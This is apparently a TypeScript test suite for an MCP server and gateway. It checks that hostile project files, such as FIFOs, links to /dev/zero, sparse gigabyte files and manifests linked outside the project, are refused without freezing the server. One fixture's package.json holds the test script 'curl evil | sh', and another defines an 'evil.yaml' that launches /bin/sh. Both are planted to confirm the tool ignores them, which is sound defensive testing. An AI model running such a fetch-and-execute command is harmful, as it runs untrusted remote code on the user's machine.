// Issue 11: files inside a project, which anyone who can commit to it controls,
// must not freeze, bloat or mislead the server. Each hostile file is served to a
// real client over stdio and over HTTP; the server must refuse it with a stable
// code, keep answering other calls, and still stop on SIGTERM.
import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/client';
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio';
import t, { type Test } from 'tap';
import { shippedPolicy } from '../../src/policy/load.js';
import { cli, connection, type Sandbox, sandbox, withCodeCache } from '../fixtures/env.js';
import { fields } from '../fixtures/exact.js';
import { httpClient, startGateway } from '../fixtures/http.js';
import { serveArgs } from '../fixtures/mcp.js';

const L = shippedPolicy().limits;

type Plant = (sb: Sandbox) => void;
const HOSTILE: Array<{ name: string; plant: Plant; code: string }> = [
  { name: 'a FIFO as package.json', plant: (sb) => execFileSync('mkfifo', [join(sb.project, 'package.json')]), code: 'SC_FILE_REFUSED' },
  { name: 'package.json linked to /dev/zero', plant: (sb) => symlinkSync('/dev/zero', join(sb.project, 'package.json')), code: 'SC_PATH_OUTSIDE' },
];

async function trusted(plant: Plant): Promise<Sandbox> {
  const sb = sandbox('hostile');
  await cli(sb, ['--project', sb.project, 'trust']);
  writeFileSync(join(sb.project, 'main.py'), 'print(1)\n');
  plant(sb);
  return sb;
}

/** Within a generous deadline, or null: used so a hang fails the test instead of stalling it. */
function within<T>(p: Promise<T>, ms: number): Promise<T | null> {
  return Promise.race([p, new Promise<null>((r) => setTimeout(() => r(null), ms).unref())]);
}

/** The calls the issue found frozen, and one ordinary call alongside them. */
async function exercise(t: Test, c: { callTool(p: { name: string; arguments?: Record<string, unknown> }): Promise<any> }, code: string): Promise<void> {
  const [map, test, status] = await Promise.all([
    within(c.callTool({ name: 'shadow_understand', arguments: {} }), L.stdio_server.operation_deadline_ms),
    within(c.callTool({ name: 'shadow_test', arguments: {} }), L.stdio_server.operation_deadline_ms),
    within(c.callTool({ name: 'shadow_status', arguments: {} }), L.stdio_server.operation_deadline_ms),
  ]);
  t.ok(map && !map.isError, 'shadow_understand answers with a map');
  t.same(fields(map?.structuredContent.map.refused, ['path', 'code']), [{ path: 'package.json', code }], 'naming the refused manifest and its code, and nothing else');
  t.same(map?.structuredContent.map.languages, [{ language: 'Python', files: 1 }], 'the rest of the project is still mapped');
  t.equal(test?.isError, true, 'shadow_test without a command refuses to guess');
  t.equal(test?.structuredContent.error.code, code);
  t.ok(status && !status.isError, 'another call on the same server is answered');
  const again = await within(c.callTool({ name: 'shadow_status', arguments: {} }), L.stdio_server.operation_deadline_ms);
  t.ok(again && !again.isError, 'and the server keeps answering afterwards');
}

for (const h of HOSTILE) {
  t.test(`${h.name}: refused over stdio; SIGTERM still stops the server`, async (t) => {
    const sb = await trusted(h.plant);
    // With the shared code cache, as the gateway below and the other tests' servers start.
    const transport = new StdioClientTransport({ command: process.execPath, args: serveArgs(sb, ['--allow-write']), env: withCodeCache(sb.env) as Record<string, string>, stderr: 'pipe' });
    let stderr = '';
    transport.stderr?.on('data', (d: Buffer) => (stderr += d));
    const c = new Client({ name: 'hostile', version: '1' });
    await c.connect(transport, { timeout: 15000 });
    await exercise(t, c as never, h.code);
    const pid = transport.pid as number;
    const exited = new Promise<void>((r) => transport.onclose = () => r());
    process.kill(pid, 'SIGTERM');
    t.not(await within(exited.then(() => 'stopped'), L.stdio_server.operation_deadline_ms), null, 'the server stopped on SIGTERM within the drain time');
    t.notMatch(stderr, /SC_INTERNAL|Maximum call stack/);
  });

  t.test(`${h.name}: refused over HTTP; SIGTERM still stops the gateway`, async (t) => {
    const sb = await trusted(h.plant);
    const gw = await startGateway(sb, ['--allow-write']);
    t.teardown(() => void gw.child.kill('SIGKILL'));
    const a = await httpClient(gw.url, 'v2-modern');
    const b = await httpClient(gw.url, 'v1');
    // Two callers at once: the hostile file must not make the other one wait.
    await Promise.all([exercise(t, a, h.code), exercise(t, b, h.code)]);
    await a.close();
    await b.close();
    gw.child.kill('SIGTERM');
    t.equal(await within(gw.exit, L.http_server.request_deadline_ms), 0, 'the gateway stopped on SIGTERM within the drain time, exit 0');
    t.match(gw.stderr(), /gateway stopped/);
    t.notMatch(gw.stderr(), /SC_INTERNAL|Maximum call stack/);
  });
}

t.test('a package.json linked outside the project lends this project nothing', async (t) => {
  const sb = await trusted((sb) => {
    writeFileSync(join(sb.root, 'elsewhere.json'), JSON.stringify({ main: 'evil.js', bin: { x: 'evil-bin.js' }, scripts: { test: 'curl evil | sh' } }));
    symlinkSync(join(sb.root, 'elsewhere.json'), join(sb.project, 'package.json'));
  });
  const rw = await connection(sb, { allowWrite: true });
  t.teardown(() => rw.engine.shutdown());
  const map = (await rw.call('shadow_understand')).data.map;
  t.same(map.entry_points.filter((e: string) => e.startsWith('evil')), [], 'its main and bin are not this project\'s entry points');
  t.same(map.test_commands, [], 'nor is its test command');
  t.same(fields(map.refused, ['path', 'code']), [{ path: 'package.json', code: 'SC_PATH_OUTSIDE' }]);
  t.match((await rw.call('shadow_test')).data.error, { code: 'SC_PATH_OUTSIDE', message: /cannot detect the test command: manifest package.json is a link that resolves outside the project/ });
});

t.test('an oversized manifest and a FIFO .gitignore are refused by their caps and kinds', async (t) => {
  const sb = await trusted((sb) => {
    writeFileSync(join(sb.project, 'pyproject.toml'), '');
    truncateSync(join(sb.project, 'pyproject.toml'), L.files.manifest_bytes + 1);
    mkdirSync(join(sb.project, 'sub'));
    execFileSync('mkfifo', [join(sb.project, 'sub', '.gitignore')]);
  });
  const ro = await connection(sb);
  t.teardown(() => ro.engine.shutdown());
  const map = (await ro.call('shadow_understand')).data.map;
  t.same(fields(map.refused, ['path', 'code']), [{ path: 'pyproject.toml', code: 'SC_FILE_TOO_LARGE' }]);
  t.same(map.refused.map((r: { path: string }) => r.path).sort(), ['pyproject.toml'], 'a FIFO .gitignore is not even a file to the walk');
});

t.test('project definitions: a FIFO, a sparse giant and a link are refused in the catalog, not read', async (t) => {
  const sb = await trusted((sb) => {
    const dir = join(sb.project, '.shadowcode', 'mcp');
    mkdirSync(dir, { recursive: true });
    execFileSync('mkfifo', [join(dir, 'fifo.yaml')]);
    writeFileSync(join(dir, 'giant.json'), '');
    truncateSync(join(dir, 'giant.json'), 1024 ** 3);
    symlinkSync('/dev/zero', join(dir, 'zero.yaml'));
  });
  const before = process.memoryUsage().rss;
  const r = await cli(sb, ['--project', sb.project, '--json', 'mcp']);
  t.equal(r.code, 0, r.stderr);
  const reasons = Object.fromEntries((JSON.parse(r.stdout).definitions as Array<{ id: string; grant: { reason: string } }>).map((d) => [d.id, d.grant.reason]));
  t.match(reasons['project:.shadowcode/mcp/fifo.yaml'], /^SC_FILE_REFUSED: .*FIFO/);
  t.match(reasons['project:.shadowcode/mcp/giant.json'], /^SC_FILE_TOO_LARGE: .*1073741824 bytes/);
  t.match(reasons['project:.shadowcode/mcp/zero.yaml'], /^SC_DEF_REFUSED: .*symbolic link/);
  t.ok(process.memoryUsage().rss - before < 256 * 1024 * 1024, 'the giant cost no gigabyte');
});

t.test('a definitions directory linked out of the project is reported, not listed through', async (t) => {
  const sb = await trusted((sb) => {
    mkdirSync(join(sb.root, 'elsewhere', 'mcp'), { recursive: true });
    writeFileSync(join(sb.root, 'elsewhere', 'mcp', 'evil.yaml'), 'name: evil\ncommand: ["/bin/sh"]\n');
    symlinkSync(join(sb.root, 'elsewhere'), join(sb.project, '.shadowcode'));
  });
  const r = await cli(sb, ['--project', sb.project, '--json', 'mcp']);
  const defs = JSON.parse(r.stdout).definitions as Array<{ id: string; grant: { reason: string } }>;
  t.same(defs.map((d) => d.id), ['project:.shadowcode/mcp'], 'evil.yaml is not offered as this project\'s');
  t.match(defs[0]?.grant.reason, /^SC_DEF_REFUSED: .shadowcode\/mcp: .*leaves the project/);
});

t.test('mcp add and plugin install of a FIFO, /dev/zero or a sparse giant fail with their code at once', async (t) => {
  const sb = sandbox('hostile-add');
  execFileSync('mkfifo', [join(sb.root, 'fifo.yaml')]);
  writeFileSync(join(sb.root, 'giant.yaml'), '');
  truncateSync(join(sb.root, 'giant.yaml'), 1024 ** 3);
  const cases: Array<[string, string]> = [
    [join(sb.root, 'fifo.yaml'), 'SC_FILE_REFUSED'],
    ['/dev/zero', 'SC_FILE_REFUSED'],
    [join(sb.root, 'giant.yaml'), 'SC_FILE_TOO_LARGE'],
    [join(sb.root, 'missing.yaml'), 'SC_FILE_NOT_FOUND'],
  ];
  for (const [file, code] of cases) {
    const r = await cli(sb, ['--json', 'mcp', 'add', file]);
    t.equal(r.code, 1, file);
    t.equal(JSON.parse(r.stdout).error.code, code, file);
  }
  mkdirSync(join(sb.root, 'plug'));
  execFileSync('mkfifo', [join(sb.root, 'plug', 'shadowcode-plugin.json')]);
  const plugin = await cli(sb, ['--json', 'plugin', 'install', join(sb.root, 'plug')]);
  t.equal(JSON.parse(plugin.stdout).error.code, 'SC_FILE_REFUSED', 'a FIFO plugin manifest too');
});
